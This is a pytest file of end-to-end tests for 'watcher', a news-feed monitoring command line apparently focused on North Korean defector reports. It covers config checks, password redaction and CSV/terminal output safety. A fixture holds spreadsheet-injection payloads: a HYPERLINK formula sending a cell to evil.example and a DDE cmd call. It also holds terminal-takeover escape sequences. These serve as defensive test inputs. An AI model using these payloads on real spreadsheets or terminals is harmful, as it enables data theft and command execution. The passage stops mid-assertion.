"""The command line as an operator uses it: real processes, exit codes, one line per problem."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.helpers import ROOT, python, watcher
from watcher.store import SCHEMA_HEAD, Store

#: Every test here starts a process.
pytestmark = pytest.mark.e2e


def test_check_shipped_config() -> None:
    result = watcher("check")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("sources.yaml: OK\n")
    assert "36 sources" in result.stdout
    # the shipped file routes nothing: check says who will not hear, and still passes
    assert "warning: no ops route: nobody hears when a source breaks" in result.stderr


def test_check_reports_each_problem_without_traceback(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "sources:\n"
        "  - id: a\n"
        "    kind: feed\n"
        "    url: https://example.org/feed\n"
        "    intervl: 15m\n"
        "  - id: b\n"
        "    kind: feed\n"
        "    url: https://example.org/b\n"
        "    interval: often\n"
        "channels:\n"
        "  - id: tg\n"
        "    url: tgram://${WATCHER_TEST_UNSET_TOKEN}/1\n"
    )
    # an unset variable is one problem among the others, in the order of the file
    result = watcher("--config", str(bad), "check")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        f"{bad}:5: sources[0].intervl: unknown key (did you mean 'interval'?)",
        f"{bad}:9: sources[1].interval: expected a duration like 15m, got 'often'",
        f"{bad}:12: channels[0].url: environment variable WATCHER_TEST_UNSET_TOKEN is not set "
        "(set it, or write ${WATCHER_TEST_UNSET_TOKEN:-default})",
        "3 problems found; nothing was changed.",
    ]
    result = watcher("--config", str(bad), "check", env={"WATCHER_TEST_UNSET_TOKEN": "x" * 20})
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"{bad}:5: sources[0].intervl: unknown key (did you mean 'interval'?)",
        f"{bad}:9: sources[1].interval: expected a duration like 15m, got 'often'",
        # set, the variable gives a URL that is read (and is no Telegram token)
        f"{bad}:12: channels[0].url: apprise cannot read this tgram:// URL (see apprise's page "
        "for tgram:// on what it needs)",
        "3 problems found; nothing was changed.",
    ]


def test_check_invalid_yaml(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("sources:\n  - id: [unclosed\n")
    result = watcher("--config", str(bad), "check")
    assert result.returncode == 2
    assert result.stderr.splitlines()[0].startswith(f"{bad}:3: invalid YAML:")
    assert "Traceback" not in result.stderr


def test_secret_never_printed(tmp_path: Path) -> None:
    cfg = tmp_path / "s.yaml"
    cfg.write_text(
        "sources:\n  - id: a\n    kind: feed\n    url: https://example.org/f\n"
        "    interval: 1m\n    name: ${WATCHER_T_SECRET}\n"
    )
    result = watcher("--config", str(cfg), "check", env={"WATCHER_T_SECRET": "hunter2-secret"})
    assert result.returncode == 0
    assert "hunter2-secret" not in result.stdout + result.stderr


def test_db_upgrade_twice_on_sqlite(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'w.db'}"
    first = watcher("--db", url, "db", "upgrade")
    assert first.returncode == 0, first.stderr
    assert first.stdout.strip() == f"database upgraded from empty to {SCHEMA_HEAD}"
    second = watcher("--db", url, "db", "upgrade")
    assert second.stdout.strip() == f"database is current (revision {SCHEMA_HEAD})"
    current = watcher("--db", url, "db", "current")
    assert current.stdout.strip() == f"{SCHEMA_HEAD}: current"


@pytest.mark.postgres
def test_db_upgrade_on_postgres(pg_schema_url: str) -> None:
    first = watcher("--db", pg_schema_url, "db", "upgrade")
    assert first.returncode == 0, first.stderr
    assert first.stdout.strip() == f"database upgraded from empty to {SCHEMA_HEAD}"
    assert watcher("--db", pg_schema_url, "db", "upgrade").stdout.strip() == (
        f"database is current (revision {SCHEMA_HEAD})"
    )


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql+psycopg://someone:pa55word@127.0.0.1:1/nowhere", "***@127.0.0.1:1"),
        (
            "postgresql+psycopg://someone@127.0.0.1:1/nowhere?password=pa55word&sslpassword=pa55ssl",
            "password=***",
        ),
    ],
    ids=["user-info", "query"],
)
def test_unreachable_database_is_one_line_without_its_password(
    tmp_path: Path, url: str, shown: str
) -> None:
    result = watcher("--db", url, "db", "upgrade")
    assert result.returncode == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: database ")
    assert "pa55word" not in result.stderr and "pa55ssl" not in result.stderr
    assert shown in result.stderr


def test_a_database_password_in_the_query_is_shown_as_stars() -> None:
    """libpq takes `?password=` (and `?sslpassword=`) too: the daemon's start line, its PID
    file and every error name the database without them."""
    from watcher.daemon import shown_database
    from watcher.store import redact_url

    url = "postgresql+psycopg://u@db.internal/w?sslmode=require&password=DbPaSs77&sslpassword=Ss9"
    for shown in (shown_database(url), redact_url(url)):
        assert "DbPaSs77" not in shown and "Ss9" not in shown, shown
        assert "password=***" in shown and "sslpassword=***" in shown, shown
        assert "sslmode=require" in shown and "db.internal/w" in shown, shown


@pytest.mark.parametrize(
    "command",
    [
        [],
        ["check"],
        ["db"],
        ["db", "upgrade"],
        ["db", "current"],
        ["run"],
        ["sources", "list"],
        ["sources", "test"],
        ["export", "items"],
        ["match"],
        ["replay"],
    ],
)
def test_every_command_has_help(command: list[str]) -> None:
    result = watcher(*command, "--help")
    assert result.returncode == 0
    assert "Usage: watcher" in result.stdout


def test_the_command_registry_names_every_command_and_loads_only_the_one_asked_for() -> None:
    # In a fresh interpreter: which command modules a command's lookup imports.
    script = (
        "import sys, click\n"
        "from watcher.cli import COMMANDS, cli\n"
        "ctx = click.Context(cli)\n"
        "assert cli.get_command(ctx, 'check') is not None\n"
        "print(sorted(m for m in sys.modules if m.startswith('watcher.cli.')))\n"
        "for name in cli.list_commands(ctx):\n"
        "    command = cli.get_command(ctx, name)\n"
        "    assert command is not None and command.name == name, name\n"
        "    mod = command.callback.__module__ if command.callback else ''\n"
        "    assert mod == 'watcher.cli.' + COMMANDS[name] or command.commands, (name, mod)\n"
        "print(sorted(cli.commands) == sorted(COMMANDS))\n"
    )
    result = python(script)
    assert result.returncode == 0, result.stderr
    loaded, complete = result.stdout.splitlines()
    assert loaded == "['watcher.cli.base', 'watcher.cli.check']"
    assert complete == "True"  # every registered command is in the registry, and back


def test_every_option_says_what_it_does() -> None:
    # `watcher --help` and each command's: an option without a help text is a bare name
    script = (
        "import click\n"
        "from watcher.cli import cli\n"
        "ctx = click.Context(cli)\n"
        "def walk(command, path):\n"
        "    for p in command.params:\n"
        "        if isinstance(p, click.Option) and not (p.help or '').strip():\n"
        "            print(' '.join([*path, p.opts[0]]))\n"
        "    for name in getattr(command, 'list_commands', lambda ctx: [])(ctx):\n"
        "        walk(command.get_command(ctx, name), [*path, name])\n"
        "walk(cli, ['watcher'])\n"
    )
    result = python(script)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == []
    assert "The lowest level of log line" in watcher("--help").stdout


def test_help_loads_no_database_config_or_http_library() -> None:
    # `watcher --help` lists every command (importing each command module), so a heavy import
    # at the top of any of them makes the help slow (it took 0.6 s; without them, 0.1 s).
    script = (
        "import sys\n"
        "from watcher.cli import main\n"
        "try:\n"
        "    main(['--help'])\n"
        "except SystemExit:\n"
        "    pass\n"
        "heavy = ('sqlalchemy', 'pydantic', 'httpx', 'yaml', 'watcher.rules', 'watcher.store')\n"
        "print(sorted(m for m in heavy if m in sys.modules))\n"
    )
    result = python(script)
    assert result.returncode == 0, result.stderr
    assert "Usage: watcher" in result.stdout
    assert result.stdout.splitlines()[-1] == "[]"


# --------------------------------------------------------------------------- collecting commands


def _feed_config(tmp_path: Path, server_url: str, broken_url: str) -> Path:
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(
        "sources:\n"
        f"  - {{id: good, kind: feed, url: '{server_url}', lang: ko, interval: 10m}}\n"
        f"  - {{id: broken, kind: feed, url: '{broken_url}', interval: 10m}}\n"
        "settings: {retries: 0, allow_private_addresses: true}\n"  # the feeds are on loopback
    )
    return cfg


FEED = (
    '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>T</title>'
    "<item><title>중국, 탈북민 강제북송</title><link>https://e.org/1?utm_source=rss</link>"
    "<pubDate>2026-11-20 14:05:00</pubDate><description>&lt;b&gt;요약&lt;/b&gt;</description>"
    "</item></channel></rss>"
).encode()


def test_run_once_then_list_and_export(tmp_path: Path, db_url: str) -> None:
    import json

    from tests.httpserver import FeedServer

    with FeedServer() as server:
        server.route("/feed", body=FEED)
        server.route("/broken", status=500)
        cfg = _feed_config(tmp_path, server.url("/feed"), server.url("/broken"))
        result = watcher("--config", str(cfg), "--db", db_url, "run", "--once")
        assert result.returncode == 0, result.stderr
        assert "broken: HTTP 500 Internal Server Error" in result.stderr
        assert "cycle: 2 polled (1 failed, 1 ok), 1 new items, 0 matched" in result.stderr

        listing = watcher("--config", str(cfg), "--db", db_url, "sources", "list")
        assert listing.returncode == 0, listing.stderr
        lines = listing.stdout.splitlines()
        assert lines[0].split()[:4] == ["ID", "KIND", "EVERY", "HEALTH"]
        good = next(line for line in lines if line.startswith("good"))
        broken = next(line for line in lines if line.startswith("broken"))
        assert " ok " in good and good.split()[-1] == "1"
        # one failure, below failure_threshold (3): retrying, not yet failing
        assert "retrying (1)" in broken and broken.endswith("HTTP 500 Internal Server Error")

        exported = watcher("--config", str(cfg), "--db", db_url, "export", "items")
        assert exported.returncode == 0, exported.stderr
        (line,) = exported.stdout.splitlines()
        row = json.loads(line)
        assert "중국" in line  # non-ASCII unescaped
        assert row["source"] == "good" and row["url"] == "https://e.org/1"
        assert row["key"] == "https://e.org/1" and row["title"] == "중국, 탈북민 강제북송"
        assert row["text"] == "요약" and row["lang"] == "ko"
        assert row["published_at"] == "2026-11-20T05:05:00+00:00"  # read as KST
        assert row["baseline"] is True and row["fetched_at"]

        later = watcher(
            "--config", str(cfg), "--db", db_url, "export", "items", "--since", "2999-01-01"
        )
        assert later.stdout == ""
        csv_out = watcher(
            "--config", str(cfg), "--db", db_url, "export", "items", "--format", "csv"
        )
        assert csv_out.stdout.splitlines()[0].startswith("source,key,url,title")


#: (stored value, its CSV cell): what a source wrote, as an older watcher may have stored it,
#: and how a spreadsheet gets it: text, never a formula, no control character.
CSV_CELLS = {
    "title": ('=HYPERLINK("http://evil.example/?x="&A1,"click") defectors', "'=HYPERLINK("),
    "text": ("+cmd|' /C calc'!A0 lead", "'+cmd|' /C calc'!A0 lead"),
    "key": ("s:g\x1b[31mRED\x1b[0m\nFAKE LOG LINE", "s:g[31mRED[0m FAKE LOG LINE"),
    "lang": ("\x1b]0;owned\x07", "]0;owned"),
    "published_raw": ("\t-2026\r", "'-2026"),
    "url": ("https://e.org/@x?a=-1", "https://e.org/@x?a=-1"),
}


def test_csv_export_cells_are_text_a_spreadsheet_never_runs(
    tmp_path: Path, db_url: str, store: Store
) -> None:
    import csv
    import io
    from datetime import UTC, datetime

    from watcher.config import load_config
    from watcher.types import Item

    at = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    values = {name: stored for name, (stored, _) in CSV_CELLS.items()}
    plain = Item(
        key="https://e.org/2",
        source_id="s",
        url="https://e.org/2",
        title="Plain - a title",
        text="@ the border",
        lang="en",
        published_at=None,
        published_raw=None,
        fetched_at=at,
    )
    cfg = tmp_path / "sources.yaml"
    cfg.write_text("sources:\n  - {id: s, kind: feed, url: 'https://e.org/feed'}\n")
    store.sync_sources(load_config(str(cfg)).config.sources, at)
    store.save_items(
        [Item(source_id="s", published_at=None, fetched_at=at, **values), plain], now=at
    )
    done = watcher("--config", str(cfg), "--db", db_url, "export", "items", "--format", "csv")
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 3  # a header and one line per item
    rows = {r["url"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
    hostile, kept = rows["https://e.org/@x?a=-1"], rows["https://e.org/2"]
    for name, (_, cell) in CSV_CELLS.items():
        assert hostile[name].startswith(cell), (name, hostile[name])
        assert hostile[name].isprintable(), name
    assert (kept["title"], kept["text"]) == ("Plain - a title", "'@ the border")


def test_sources_test_prints_items_without_storing(tmp_path: Path) -> None:
    from tests.httpserver import FeedServer

    db = tmp_path / "w.db"
    with FeedServer() as server:
        server.route("/feed", body=FEED)
        cfg = _feed_config(tmp_path, server.url("/feed"), server.url("/broken"))
        result = watcher("--config", str(cfg), "--db", f"sqlite:///{db}", "sources", "test", "good")
        assert result.returncode == 0, result.stderr
        # each time names its zone (it printed "2026-11-20 14:05", and the same with --utc)
        assert "2026-11-20 14:05 KST  ko  중국, 탈북민 강제북송" in result.stdout
        assert "\n                         https://e.org/1\n" in result.stdout  # under the title
        assert result.stdout.rstrip().endswith("1 items (dates in Asia/Seoul)")
        utc = watcher("--config", str(cfg), "--utc", "sources", "test", "good")
        assert "2026-11-20 05:05 UTC  ko  중국, 탈북민 강제북송" in utc.stdout
        assert utc.stdout.rstrip().endswith("1 items (dates in UTC)")
        missing = watcher("--config", str(cfg), "sources", "test", "broken")
        assert missing.returncode == 1
        assert missing.stderr.strip().splitlines()[-1] == "error: broken: HTTP 404 Not Found"
        unknown = watcher("--config", str(cfg), "sources", "test", "nope")
        assert unknown.returncode == 2 and "no source 'nope'" in unknown.stderr
    assert not db.exists()


#: What a source sends to take over the terminal of whoever tests it: a window title (OSC),
#: a cleared screen and colours (CSI, as ESC [ and as the one C1 character U+009B).
TAKEOVER = "\x1b]0;owned\x07\x1b[2J\x9b31m"


def test_sources_test_shows_what_a_source_sent_and_never_obeys_it(tmp_path: Path) -> None:
    import json

    from tests.httpserver import FeedServer

    entry = {"t": f"North Korean {TAKEOVER}defectors", "u": "https://e.org/1", "lang": TAKEOVER}
    with FeedServer() as server:
        server.route(
            "/api", body=json.dumps({"data": [entry]}).encode(), content_type="application/json"
        )
        server.route("/page", body=b"<!DOCTYPE html><html></html>", content_type=TAKEOVER)
        cfg = tmp_path / "sources.yaml"
        cfg.write_text(
            "settings: {allow_private_addresses: true}\nsources:\n"
            f"  - {{id: api, kind: json, url: '{server.url('/api')}', items: data,"
            " fields: {title: t, url: u, lang: lang}}\n"
            f"  - {{id: page, kind: feed, url: '{server.url('/page')}'}}\n"
        )
        items = watcher("--config", str(cfg), "sources", "test", "api")
        page = watcher("--config", str(cfg), "sources", "test", "page")
    assert items.returncode == 0, items.stderr
    assert " en  North Korean ]0;owned[2J31mdefectors\n" in items.stdout
    assert page.returncode == 1
    assert page.stderr.endswith("(content-type ]0;owned[2J31m)\n")
    for shown in (items.stdout, items.stderr, page.stdout, page.stderr):
        assert shown.replace("\n", "").isprintable(), repr(shown)


# --------------------------------------------------------------------------- rules commands

RULES = """
concepts:
  nk_people: {ko: [탈북민], en: [north korean*]}
  sent_back: {ko: [북송], en: [repatriat*]}
rules:
  - id: return
    event: forced_repatriation
    severity: high
    all_of: [nk_people, sent_back]
    examples:
      match: [탈북민 강제북송]
"""


def test_match_writes_one_line_per_input_in_order(tmp_path: Path) -> None:
    import json

    lines = [
        json.dumps(
            {"id": "a", "title": "中, 탈북민 600여명 강제북송", "text": "단둥에서 10월 9일"}
        ),
        "not json at all",
        json.dumps({"id": 7, "title": "North Korea fires missile", "lang": "en"}),
        json.dumps(["a", "list"]),
        "",
        json.dumps({"id": "b", "title": 5}),
        json.dumps({"id": "c", "title": "UN rapporteur on DPRK", "source": "news.un.org"}),
    ]
    # no database, no network, no environment: run in an empty directory
    result = watcher(
        "--config",
        str(ROOT / "sources.yaml"),
        "match",
        "-",
        stdin="\n".join(lines) + "\n",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    out = [json.loads(line) for line in result.stdout.splitlines()]
    # one line per line that is not blank (the blank one is skipped, not an error)
    assert len(out) == len(lines) - 1
    assert [row.get("id") for row in out] == ["a", None, 7, None, "b", "c"]
    first = out[0]
    assert first["relevant"] is True and "forced_repatriation" in first["events"]
    assert first["severity"] == "critical" and first["extracted"]["people"] == 600
    assert first["extracted"]["places"] == ["Dandong"]
    assert out[2]["relevant"] is False and out[2]["events"] == []
    assert "not JSON" in out[1]["error"] and "JSON object" in out[3]["error"]
    assert "strings" in out[4]["error"] and "error" not in out[5]
    assert list(tmp_path.iterdir()) == []


def test_check_refuses_a_rule_that_breaks_its_examples(tmp_path: Path) -> None:
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(
        "sources: []\n" + RULES.replace("match: [탈북민 강제북송]", "match: [탈북민 체포]")
    )
    result = watcher("--config", str(cfg), "check")
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"{cfg}:12: rules[0].examples.match[0]: rule 'return' does not match its match "
        "example '탈북민 체포'",
        "1 problem found; nothing was changed.",
    ]
    # the daemon refuses it the same way
    assert watcher("--config", str(cfg), "run", "--once").returncode == 2


def test_run_stores_matches_and_replay_compares_other_rules(tmp_path: Path, db_url: str) -> None:
    import json

    from tests.httpserver import FeedServer

    with FeedServer() as server:
        server.route("/feed", body=FEED)
        cfg = tmp_path / "sources.yaml"
        cfg.write_text(
            f"sources:\n  - {{id: good, kind: feed, url: '{server.url('/feed')}', lang: ko}}\n"
            "settings: {allow_private_addresses: true}\n" + RULES
        )
        result = watcher("--config", str(cfg), "--db", db_url, "run", "--once")
        assert result.returncode == 0, result.stderr
        assert "1 new items, 1 matched" in result.stderr

    replay = watcher("--config", str(cfg), "--db", db_url, "replay")
    assert replay.returncode == 0, replay.stderr
    (line,) = replay.stdout.splitlines()
    assert (
        line.startswith("  ") and "forced_repatriation" in line and "중국, 탈북민 강제북송" in line
    )
    assert re.match(r"  \d{4}-\d\d-\d\d \d\d:\d\d UTC  good ", line), line  # the zone named
    assert "1 items, 1 match (forced_repatriation 1); changed against stored matches: +0 -0 ~0" in (
        replay.stderr
    )

    other = tmp_path / "other.yaml"
    other.write_text(
        RULES.replace("[탈북민]", "[탈북자]").replace("탈북민 강제북송", "탈북자 강제북송")
    )
    changed = watcher(
        "--config", str(cfg), "--db", db_url, "replay", "--rules", str(other), "--format", "jsonl"
    )
    assert changed.returncode == 0, changed.stderr
    (row,) = [json.loads(x) for x in changed.stdout.splitlines()]
    assert row["change"] == "-" and row["relevant"] is False and row["source"] == "good"
    assert "+0 -1 ~0" in changed.stderr


def test_check_renders_the_operators_templates(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "alert.text.j2").write_text("{{ broken")
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(f"sources: []\nsettings: {{templates_dir: '{folder}'}}\n")
    result = watcher("--config", str(cfg), "check")
    assert result.returncode == 2
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"{cfg}:2: settings.templates_dir: a template in {folder}")
    (folder / "alert.text.j2").write_text("{{ title }}")
    assert watcher("--config", str(cfg), "check").returncode == 0


def test_check_lists_every_problem_in_one_run(tmp_path: Path) -> None:
    """What only check looks at (CSS selectors, apprise URLs) comes with the route and concept
    problems, in file order: an operator fixes them all from one run."""
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(
        "sources:\n"
        "  - id: h\n"
        "    kind: html\n"
        "    url: https://e.org/a\n"
        "    selectors: {item: 'h3[class', title: a, link: a}\n"
        "concepts:\n"
        "  nk: {kr: [탈북민], en: [defector]}\n"
        "rules:\n"
        "  - {id: r, event: detention, all_of: [nk]}\n"
        "channels:\n"
        "  - {id: ch, url: 'mailto//x'}\n"
        "routes:\n"
        "  - {channels: [ch], events: [detension]}\n"
    )
    result = watcher("--config", str(cfg), "check")
    assert result.returncode == 2
    where = [line.split(": ", 2)[:2] for line in result.stderr.splitlines()[:-1]]
    assert where == [
        [f"{cfg}:5", "sources[0].selectors.item"],
        [f"{cfg}:7", "concepts.nk.kr"],
        [f"{cfg}:11", "channels[0].url"],
        [f"{cfg}:13", "routes[0].events"],
    ]
    assert result.stderr.splitlines()[-1] == "4 problems found; nothing was changed."


def test_check_lists_what_needs_no_valid_file_behind_any_other_problem(tmp_path: Path) -> None:
    """One wrong interval hid the selectors, the channel URLs, the concepts' country codes and
    the routes' locales until it was fixed: they are checked on the entries that are valid
    apart from what is listed, and what truly waits for a valid file is said."""
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(
        "sources:\n"
        "  - id: h\n"
        "    kind: html\n"
        "    url: https://e.org/a\n"
        "    interval: 10 min\n"
        "    selectors: {item: 'h3[class', title: a, link: a}\n"
        "  - {id: f, kind: rss, url: 'https://e.org/f', lang: ko}\n"
        "concepts:\n"
        "  nk: {kr: [탈북민], en: [defector]}\n"
        "rules:\n"
        "  - {id: r, event: detention, all_of: [nk], examples: {match: [defector]}}\n"
        "channels:\n"
        "  - {id: ch, url: 'foo://bar'}\n"
        "  - {id: t, url: 'tgram://${WATCHER_T_UNSET}/1'}\n"
        "routes:\n"
        "  - {channels: [ch], events: [detension], locale: kr}\n"
        "  - {channels: [t], ops: true}\n"
    )
    result = watcher("--config", str(cfg), "check")
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"{cfg}:5: sources[0].interval: expected a duration like 15m, got '10 min'",
        f"{cfg}:6: sources[0].selectors.item: not a CSS selector: Malformed attribute selector "
        "at position 2 in 'h3[class'",
        f"{cfg}:7: sources[1]: unknown kind 'rss' (did you mean 'feed'? expected one of: "
        "feed, html, json)",
        f"{cfg}:9: concepts.nk.kr: 'kr' is a country code, not a language: no item has it, so "
        "these terms are never looked for (did you mean 'ko'?)",
        f"{cfg}:13: channels[0].url: apprise knows no scheme 'foo' (see apprise's list of "
        "services)",
        # an unset variable is its own problem: the URL without it is not judged
        f"{cfg}:14: channels[1].url: environment variable WATCHER_T_UNSET is not set (set it, "
        "or write ${WATCHER_T_UNSET:-default})",
        f"{cfg}:16: routes[0].locale: unknown locale 'kr' (did you mean 'ko'?)",
        "7 problems found; nothing was changed.",
        "2 more checks wait until these are fixed: the events, tags, languages and severity of "
        "1 route against the rules and sources; the examples of 1 rule",
    ]


def test_check_warns_of_an_alert_template_whose_updates_say_nothing_changed(
    tmp_path: Path,
) -> None:
    """An override written before updates said what changed names only new outlets: check
    says which file and what to copy, and goes on (a warning; the exit code stays 0)."""
    shipped = Path(__file__).parent.parent / "watcher" / "templates"
    folder = tmp_path / "templates"
    (folder / "ko").mkdir(parents=True)
    old = "{{ title }}{% if kind == 'update' %} +{{ new_outlets|join(', ') }}{% endif %}"
    (folder / "alert.slack.md.j2").write_text(old)
    (folder / "alert.md.j2").write_text(old)  # discord's and mattermost's: told once
    # copies of the shipped templates do say it
    (folder / "alert.text.j2").write_text((shipped / "alert.text.j2").read_text())
    (folder / "ko" / "alert.text.j2").write_text((shipped / "ko" / "alert.text.j2").read_text())
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(f"sources: []\nsettings: {{templates_dir: '{folder}'}}\n")
    result = watcher("--config", str(cfg), "check")
    assert result.returncode == 0, result.stderr
    warned = [line for line in result.stderr.splitlines() if "does not show `changes`" in line]
    assert sorted(warned) == [
        f"warning: {folder / name} does not show `changes`: an update sent with it names only "
        'new outlets, not what changed ("60 → 600 people"); copy the update line of the shipped '
        f"watcher/templates/{name} (docs/alerts.md)"
        for name in ("alert.md.j2", "alert.slack.md.j2")
    ]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (
            ["run", "--once", "--metrics-address", "127.0.0.1:99999"],
            "error: --metrics-address: expected HOST:PORT (a port from 1 to 65535) or off, "
            "got '127.0.0.1:99999'",
        ),
        (
            ["run", "--metrics-address", "localhost"],
            "error: --metrics-address: expected HOST:PORT (a port from 1 to 65535) or off, "
            "got 'localhost'",
        ),
        # --all chooses the sources of the one cycle: the daemon has none to choose
        (
            ["run", "--all"],
            "error: --all goes with --once (the daemon polls each source when it is due)",
        ),
        # serve's --address is checked by the same function (off is no address to serve on)
        (
            ["serve", "--address", "127.0.0.1:99999"],
            "error: --address: expected HOST:PORT (a port from 1 to 65535), got '127.0.0.1:99999'",
        ),
        (
            ["serve", "--address", "127.0.0.1:0"],
            "error: --address: expected HOST:PORT (a port from 1 to 65535), got '127.0.0.1:0'",
        ),
        (
            ["serve", "--address", "off"],
            "error: --address: expected HOST:PORT (a port from 1 to 65535), got 'off'",
        ),
        (
            ["serve", "--address", "[::1:8080"],
            "error: --address: expected HOST:PORT with an IPv6 host in brackets, got '[::1:8080'",
        ),
    ],
)
def test_run_and_serve_refuse_bad_options_in_one_line(
    tmp_path: Path, args: list[str], expected: str
) -> None:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    result = watcher("--db", db, *args)
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [expected]


def test_run_with_a_database_in_a_missing_folder_is_one_line(tmp_path: Path) -> None:
    missing = tmp_path / "no" / "such" / "w.db"
    result = watcher("--db", f"sqlite:///{missing}", "run", "--once")
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        f"error: cannot create the lock file {missing}.lock: No such file or directory "
        "(the database's folder must exist)"
    ]


def test_check_refuses_channels_apprise_cannot_read_without_showing_them(tmp_path: Path) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text(
        "sources:\n"
        "  - {id: a, kind: feed, url: 'https://example.org/f'}\n"
        "channels:\n"
        "  - {id: mail, url: 'mailtoz://bob:${WATCHER_T_SMTP}@example.org'}\n"
        "  - {id: bad, url: 'mailto//nope'}\n"
        "  - {id: ok, url: 'json://localhost:8080/x'}\n"
        "  - {id: tg, url: 'tgram://'}\n"
        "  - {id: unused, url: 'nosuch://x', enabled: false}\n"
    )
    result = watcher("--config", str(cfg), "check", env={"WATCHER_T_SMTP": "sekrit-pass"})
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"{cfg}:4: channels[0].url: apprise knows no scheme 'mailtoz' (did you mean 'mailto'?)",
        f"{cfg}:5: channels[1].url: not an apprise URL: expected SCHEME://… (mailto://, "
        "slack://, tgram://, json://…)",
        f"{cfg}:7: channels[3].url: apprise cannot read this tgram:// URL (see apprise's page "
        "for tgram:// on what it needs)",
        "3 problems found; nothing was changed.",
    ]
    assert "sekrit-pass" not in result.stdout + result.stderr


def test_run_once_logs_the_warnings_check_gives(tmp_path: Path) -> None:
    # a cron job's log is all its operator reads: a channel that cannot work is said there
    cfg = tmp_path / "c.yaml"
    cfg.write_text(
        "sources:\n"
        "  - {id: a, kind: feed, url: 'https://example.org/f', enabled: false}\n"
        "channels:\n"
        "  - {id: tg, url: 'tgram://'}\n"
    )
    db = f"sqlite:///{tmp_path / 'w.db'}"
    result = watcher("--config", str(cfg), "--db", db, "run", "--once")
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if " WARNING " in line]
    assert any(
        "channel 'tg': apprise cannot read this tgram:// URL" in w and "alerts will fail" in w
        for w in warnings
    ), result.stderr
    assert any("no ops route" in w for w in warnings), result.stderr


def test_reload_reads_only_where_the_daemon_keeps_its_pid(tmp_path: Path) -> None:
    # The daemon's secrets live in its own environment (systemd, a container): reload, run
    # from an operator's shell without them, must still find the PID file.
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(
        "sources:\n"
        "  - {id: a, kind: feed, url: 'https://example.org/f?key=${WATCHER_T_FEED_KEY}'}\n"
        "settings:\n"
        "  state_dir: ${WATCHER_T_STATE:-state}\n"
    )
    result = watcher("--config", str(cfg), "reload")
    assert result.returncode == 1
    told, line = result.stderr.strip().splitlines()
    assert told == (
        "not set in this shell: WATCHER_T_FEED_KEY; the file is checked in part here, and in "
        "full by the daemon (its log says `reload refused` if it is invalid)"
    )
    assert line.startswith(
        f"error: no running daemon found: {tmp_path / 'state' / 'watcher.pid'} does not exist"
    )

    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "watcher.pid").write_text("999999999\n")
    result = watcher("--config", str(cfg), "reload")
    assert "names pid 999999999, which is not running (stale)" in result.stderr

    # a file with another problem is refused here, as the daemon would refuse it
    cfg.write_text(cfg.read_text() + "  timezone: Mars/Olympus\n")
    result = watcher("--config", str(cfg), "reload")
    assert result.returncode == 2
    assert "settings.timezone" in result.stderr and "sent SIGHUP" not in result.stdout


def test_check_refuses_a_selector_that_is_not_css(tmp_path: Path) -> None:
    cfg = tmp_path / "h.yaml"
    cfg.write_text(
        "sources:\n"
        "  - id: a\n"
        "    kind: html\n"
        "    url: https://example.org/\n"
        "    selectors:\n"
        "      item: li.news\n"
        "      title: 'h3[class'\n"
    )
    result = watcher("--config", str(cfg), "check")
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"{cfg}:7: sources[0].selectors.title: not a CSS selector: Malformed attribute "
        "selector at position 2 in 'h3[class'",
        "1 problem found; nothing was changed.",
    ]


def test_a_path_given_for_a_database_url_says_what_is_expected(tmp_path: Path) -> None:
    result = watcher("--db", str(tmp_path / "w.db"), "db", "current")
    assert result.returncode == 2, "the option is wrong, not the database"
    assert result.stderr.strip().splitlines() == [
        f"error: bad database URL '{tmp_path / 'w.db'}': Could not parse SQLAlchemy URL from "
        "given URL string (expected sqlite:///PATH, e.g. sqlite:///watcher.db, or a "
        "postgresql+psycopg:// URL)"
    ]
    shown = watcher("--db", "user:pa55word@host/db", "db", "current")
    assert "pa55word" not in shown.stderr and "'***@host/db'" in shown.stderr
    assert shown.returncode == 2


def test_one_line_errors_name_the_option(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    assert watcher("--db", db, "db", "upgrade").returncode == 0
    cfg = tmp_path / "s.yaml"
    cfg.write_text("sources:\n  - {id: dailynk, kind: feed, url: 'https://example.org/f'}\n")
    assert watcher("--config", str(cfg), "--db", db, "sources", "list").returncode == 0
    export = watcher("--config", str(cfg), "--db", db, "export", "items", "--source", "dailyn")
    assert export.returncode == 2  # a bad option value, as click's own usage errors
    since = watcher("--config", str(cfg), "--db", db, "export", "items", "--since", "soon")
    assert since.returncode == 2
    assert since.stderr.strip() == "error: --since: expected a date like 2026-11-01, got 'soon'"
    assert export.stderr.strip() == (
